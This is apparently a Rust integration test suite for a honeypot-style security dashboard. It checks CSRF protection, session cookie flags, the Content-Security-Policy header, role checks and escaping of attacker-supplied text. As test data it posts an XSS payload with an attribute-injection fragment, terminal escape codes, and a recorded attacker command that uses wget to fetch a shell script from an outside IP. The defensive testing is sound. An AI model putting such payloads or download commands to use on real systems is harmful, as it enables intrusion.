//! The first page: login with CSRF, session cookie flags, the CSP header, and attacker
//! text shown escaped.

use reqwest::blocking::Response;
use serde_json::json;

use crate::util::{Server, client, token};

fn set_cookie(response: &Response, name: &str) -> Option<String> {
    response
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with(&format!("{name}=")))
        .map(str::to_owned)
}

fn cookie_value(set_cookie: &str) -> String {
    set_cookie
        .split(';')
        .next()
        .unwrap()
        .split_once('=')
        .unwrap()
        .1
        .to_owned()
}

fn hidden(html: &str, name: &str) -> String {
    let marker = format!("name=\"{name}\" value=\"");
    let start = html.find(&marker).unwrap() + marker.len();
    html[start..].split('"').next().unwrap().to_owned()
}

#[test]
fn login_then_latest_events_escaped_under_csp() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir_all(&data).unwrap();
    let token = token(&data, "sensor", "analyst");
    let server = Server::start(&data, None);
    let client = client();
    let url = &server.url;

    // First start made an admin whose password is in a private file.
    let password_file = data.join("initial-admin-password");
    let password = std::fs::read_to_string(&password_file)
        .unwrap()
        .trim()
        .to_owned();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&password_file)
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    let hostile = "<script>alert(1)</script> \u{1b}[31mred\u{1b}[0m \"onmouseover=x";
    let response = client
        .post(format!("{url}/api/v1/events"))
        .bearer_auth(&token)
        .json(&json!([{"kind": "ssh.command", "summary": hostile, "severity": "high", "src_ip": "203.0.113.66",
            "data": {"input": format!("wget http://198.51.100.7/{}.sh", "x".repeat(120))}}]))
        .send()
        .unwrap();
    assert_eq!(response.status(), 200);

    // Not logged in: redirected to the login form.
    let response = client.get(format!("{url}/")).send().unwrap();
    assert_eq!(response.status(), 303);
    assert!(
        response.headers()["location"]
            .to_str()
            .unwrap()
            .starts_with("/login")
    );

    let form = client.get(format!("{url}/login")).send().unwrap();
    let csp = form.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        csp.contains("default-src 'none'") && !csp.contains("script-src"),
        "{csp}"
    );
    let login_cookie = set_cookie(&form, "nectar_login_csrf").unwrap();
    let html = form.text().unwrap();
    let csrf = hidden(&html, "csrf");
    assert_eq!(cookie_value(&login_cookie), csrf);

    let post_login = |password: &str, csrf: &str, origin: Option<&str>| {
        let mut request = client
            .post(format!("{url}/login"))
            .header(
                "cookie",
                format!("nectar_login_csrf={}", cookie_value(&login_cookie)),
            )
            .form(&[
                ("username", "admin"),
                ("password", password),
                ("csrf", csrf),
                ("next", "/"),
            ]);
        if let Some(origin) = origin {
            request = request.header("origin", origin);
        }
        request.send().unwrap()
    };
    assert_eq!(post_login("wrong-password", &csrf, None).status(), 401);
    assert_eq!(post_login(&password, "forged", None).status(), 403);
    assert_eq!(
        post_login(&password, &csrf, Some("https://evil.example")).status(),
        403
    );

    let response = post_login(&password, &csrf, Some(url));
    assert_eq!(response.status(), 303);
    let session = set_cookie(&response, "nectar_session").expect("session cookie");
    assert!(
        session.contains("HttpOnly") && session.contains("SameSite=Strict"),
        "{session}"
    );

    let cookie = format!("nectar_session={}", cookie_value(&session));
    let get = |path: &str| {
        let response = client
            .get(format!("{url}{path}"))
            .header("cookie", &cookie)
            .send()
            .unwrap();
        let status = response.status().as_u16();
        let csp = response.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .to_owned();
        assert!(csp.contains("default-src 'none'"), "{path}: {csp}");
        (status, response.text().unwrap())
    };
    // The dashboard's top lists follow the events within a second.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
    let (status, dashboard) = loop {
        let (status, page) = get("/");
        if page.contains("203.0.113.66") || std::time::Instant::now() > deadline {
            break (status, page);
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    assert_eq!(status, 200);
    assert!(dashboard.contains("203.0.113.66"), "top sources");
    assert!(dashboard.contains("<svg"), "the chart");
    // A top command too long for its cell is cut, the whole behind a disclosure.
    let whole = format!("wget http://198.51.100.7/{}.sh", "x".repeat(120));
    assert!(dashboard.contains("<details class=\"cut\">"), "{dashboard}");
    assert!(dashboard.contains(&whole), "the whole command");
    for path in [
        "/?range=1h",
        "/?range=7d",
        "/?since=2026-01-01T00:00&until=2030-01-01T00:00",
        "/sessions",
        "/detection",
        "/hosts",
        "/settings",
        "/events?kind=ssh.*&severity=high",
    ] {
        let (status, html) = get(path);
        assert_eq!(status, 200, "{path}");
        assert!(!html.contains("<script"), "{path}");
    }
    let (status, _) = get("/events?since=never");
    assert_eq!(status, 400);

    let (status, html) = get("/events");
    assert_eq!(status, 200);
    assert!(html.contains("203.0.113.66"));
    assert!(
        !html.contains("<script"),
        "unescaped script tag in the page"
    );
    assert!(
        html.contains("&#60;script&#62;") || html.contains("&lt;script&gt;"),
        "{html}"
    );
    assert!(
        html.contains("\u{241b}[31mred"),
        "terminal escapes are not shown visibly"
    );
    assert!(!html.contains('\u{1b}'));
    assert!(!html.contains("\"onmouseover"));
    // Event links are /events/<uuid>; UUIDv7s of this era start with 0.
    let id_start = html.find("href=\"/events/0").unwrap() + "href=\"/events/".len();
    let id = &html[id_start..id_start + 36];
    let (status, detail) = get(&format!("/events/{id}"));
    assert_eq!(status, 200);
    assert!(!detail.contains("<script") && detail.contains("\u{241b}[31mred"));
    // The logged-in browser can read the API (the event page links its JSON), not write.
    let json = client
        .get(format!("{url}/api/v1/events/{id}"))
        .header("cookie", &cookie)
        .send()
        .unwrap();
    assert_eq!(json.status(), 200);
    let write = client
        .post(format!("{url}/api/v1/events"))
        .header("cookie", &cookie)
        .body(r#"[{"kind":"http.request","summary":"x"}]"#)
        .send()
        .unwrap();
    assert_eq!(write.status(), 401);

    let export = client
        .get(format!("{url}/events/export.csv"))
        .header("cookie", &cookie)
        .send()
        .unwrap();
    assert_eq!(export.status(), 200);
    let csv = export.text().unwrap();
    assert_eq!(csv.lines().count(), 2, "{csv}");
    assert!(csv.starts_with("id,time,sensor,kind"));

    let html = dashboard;
    // Logging out needs the session's CSRF token and ends the session.
    let csrf = hidden(&html, "csrf");
    let cookie = format!("nectar_session={}", cookie_value(&session));
    let response = client
        .post(format!("{url}/logout"))
        .header("cookie", &cookie)
        .form(&[("csrf", "bad")])
        .send()
        .unwrap();
    assert_eq!(response.status(), 403);
    let response = client
        .post(format!("{url}/logout"))
        .header("cookie", &cookie)
        .form(&[("csrf", csrf.as_str())])
        .send()
        .unwrap();
    assert_eq!(response.status(), 303);
    let response = client
        .get(format!("{url}/"))
        .header("cookie", &cookie)
        .send()
        .unwrap();
    assert_eq!(response.status(), 303, "session still valid after logout");

    let css = client
        .get(format!("{url}/static/style.css"))
        .send()
        .unwrap();
    assert_eq!(css.status(), 200);
    assert!(
        css.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/css")
    );
}

/// Logs `user` in through the form and returns the session cookie header value.
pub fn login(client: &reqwest::blocking::Client, url: &str, user: &str, password: &str) -> String {
    let form = client.get(format!("{url}/login")).send().unwrap();
    let login_cookie = cookie_value(&set_cookie(&form, "nectar_login_csrf").unwrap());
    let csrf = hidden(&form.text().unwrap(), "csrf");
    let response = client
        .post(format!("{url}/login"))
        .header("cookie", format!("nectar_login_csrf={login_cookie}"))
        .form(&[("username", user), ("password", password), ("csrf", &csrf)])
        .send()
        .unwrap();
    assert_eq!(response.status(), 303, "login of {user}");
    format!(
        "nectar_session={}",
        cookie_value(&set_cookie(&response, "nectar_session").unwrap())
    )
}

#[test]
fn roles_and_csrf_guard_every_change() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir_all(&data).unwrap();
    let server = Server::start(&data, None);
    let url = &server.url;
    let client = client();
    let admin_password = std::fs::read_to_string(data.join("initial-admin-password")).unwrap();
    let viewer_password = "viewer-password-123";
    let out = std::process::Command::new(crate::util::BIN)
        .arg("--data-dir")
        .arg(&data)
        .args([
            "user",
            "add",
            "vera",
            "--role",
            "viewer",
            "--password-stdin",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            child
                .stdin
                .take()
                .unwrap()
                .write_all(format!("{viewer_password}\n").as_bytes())?;
            child.wait_with_output()
        })
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let admin = login(&client, url, "admin", admin_password.trim());
    let viewer = login(&client, url, "vera", viewer_password);
    let page = |cookie: &str| {
        client
            .get(format!("{url}/settings"))
            .header("cookie", cookie)
            .send()
            .unwrap()
            .text()
            .unwrap()
    };
    let admin_csrf = hidden(&page(&admin), "csrf");
    let viewer_page = page(&viewer);
    let viewer_csrf = hidden(&viewer_page, "csrf");
    assert!(
        !viewer_page.contains("Create user"),
        "viewers see no admin forms"
    );

    let post = |cookie: &str, path: &str, form: &[(&str, &str)]| {
        client
            .post(format!("{url}{path}"))
            .header("cookie", cookie)
            .form(form)
            .send()
            .unwrap()
            .status()
            .as_u16()
    };
    // A viewer with a valid token is refused, and nothing changes.
    assert_eq!(
        post(
            &viewer,
            "/settings/users",
            &[
                ("csrf", &viewer_csrf),
                ("name", "mallory"),
                ("role", "admin")
            ]
        ),
        403
    );
    assert_eq!(
        post(
            &viewer,
            "/settings/tokens",
            &[("csrf", &viewer_csrf), ("name", "t1"), ("role", "admin")]
        ),
        403
    );
    assert_eq!(
        post(
            &viewer,
            "/settings/users/password",
            &[("csrf", &viewer_csrf), ("name", "admin")]
        ),
        403
    );
    // An admin without the CSRF token is refused too.
    assert_eq!(
        post(
            &admin,
            "/settings/users",
            &[("csrf", "nope"), ("name", "mallory"), ("role", "admin")]
        ),
        403
    );
    assert_eq!(post(&admin, "/settings/users", &[("name", "mallory")]), 422);
    assert!(!page(&admin).contains("mallory"));
    // Not logged in: sent to the login form.
    assert_eq!(
        post(
            "",
            "/settings/users",
            &[("csrf", &admin_csrf), ("name", "mallory")]
        ),
        303
    );

    // The admin can, and sees the new secret once.
    let response = client
        .post(format!("{url}/settings/tokens"))
        .header("cookie", &admin)
        .form(&[
            ("csrf", admin_csrf.as_str()),
            ("name", "sensor-9"),
            ("role", "analyst"),
        ])
        .send()
        .unwrap();
    assert_eq!(response.status(), 200);
    let html = response.text().unwrap();
    let token_start = html.find("nct_").unwrap();
    let token = &html[token_start..token_start + 68];
    let health = client
        .get(format!("{url}/api/v1/events"))
        .bearer_auth(token)
        .send()
        .unwrap();
    assert_eq!(
        health.status(),
        200,
        "a token made in the UI works on the API"
    );
    assert_eq!(
        post(
            &admin,
            "/settings/users",
            &[
                ("csrf", &admin_csrf),
                ("name", "newbie"),
                ("role", "viewer")
            ]
        ),
        200
    );
    assert!(page(&admin).contains("newbie"));
    assert_eq!(
        post(
            &admin,
            "/settings/tokens/revoke",
            &[("csrf", &admin_csrf), ("name", "sensor-9")]
        ),
        200
    );
    let revoked = client
        .get(format!("{url}/api/v1/events"))
        .bearer_auth(token)
        .send()
        .unwrap();
    assert_eq!(revoked.status(), 401);

    // Anyone may change their own password, knowing the current one; it ends their sessions.
    let new_password = "password-of-vera-2";
    let form = |current: &'static str| {
        [
            ("csrf", viewer_csrf.clone()),
            ("current", current.to_owned()),
            ("new", new_password.to_owned()),
            ("repeat", new_password.to_owned()),
        ]
    };
    let change = |current: &'static str| {
        client
            .post(format!("{url}/settings/password"))
            .header("cookie", &viewer)
            .form(&form(current))
            .send()
            .unwrap()
            .status()
            .as_u16()
    };
    assert_eq!(change("wrong-guess-123"), 403);
    assert_eq!(change(viewer_password), 303);
    let old = client
        .get(format!("{url}/settings"))
        .header("cookie", &viewer)
        .send()
        .unwrap();
    assert_eq!(old.status(), 303, "the old session ended");
    let again = login(&client, url, "vera", new_password);
    let page = client
        .get(format!("{url}/settings"))
        .header("cookie", &again)
        .send()
        .unwrap();
    assert_eq!(page.status(), 200);
}
